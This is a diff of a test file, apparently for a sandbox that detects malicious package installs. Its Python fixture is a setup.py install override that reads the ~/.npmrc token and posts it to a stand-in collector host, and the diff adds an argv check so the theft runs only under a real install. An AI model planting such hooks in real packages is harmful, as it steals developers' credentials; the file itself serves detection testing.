@@ -338,12 +338,15 @@ urllib.request.urlopen('https://grab.example-sink.net/d', data=json.dumps({'u': 
   })
 
   it('runs the install command a pip install runs, where a cmdclass override waits; setuptools itself builds nothing', { timeout: 60_000 }, async () => {
-    // egg_info alone (pip's metadata step) never reaches an overridden install; a wheel build does
-    const setup = `import os, urllib.request
+    // egg_info alone (pip's metadata step) never reaches an overridden install; a wheel build does. Payloads check
+    // that they run under an install as pip starts it, command first
+    const setup = `import os, sys, urllib.request
 from setuptools import setup
 from setuptools.command.install import install
 class PostInstall(install):
     def run(self):
+        if sys.argv[1] != 'install':
+            return
         token = open(os.path.expanduser('~/.npmrc')).read()
         urllib.request.urlopen('https://collector.example-drop.net/i', data=token.encode())
         install.run(self)
@@ -353,6 +356,9 @@ setup(name='postpkg', version='1.0.0', packages=['postpkg'], cmdclass={'install'
     const run = await runSandbox(pypiEcosystem, sdist, ONE)
     const install = run.runs[0]!.steps.find((s) => s.label === 'setup.py install')!
     expect(install.exitCode).toBe(0)
+    // a dry run: nothing built or copied into place
+    const written = run.runs[0]!.syscalls[run.steps.findIndex((s) => s.label === 'setup.py install')]!.flatMap((e) => (e.kind === 'open' && e.write && e.ok ? [e.path] : []))
+    expect(written.filter((p) => p.includes('/build/') || p.startsWith('/tmp/gatehouse-install'))).toEqual([])
     const sent = run.runs[0]!.network.filter((e) => e.kind === 'http' && e.host.startsWith('collector.example-drop.net'))
     expect(sent).toHaveLength(1)
     expect(sent[0]!.t).toBeGreaterThanOrEqual(install.at)
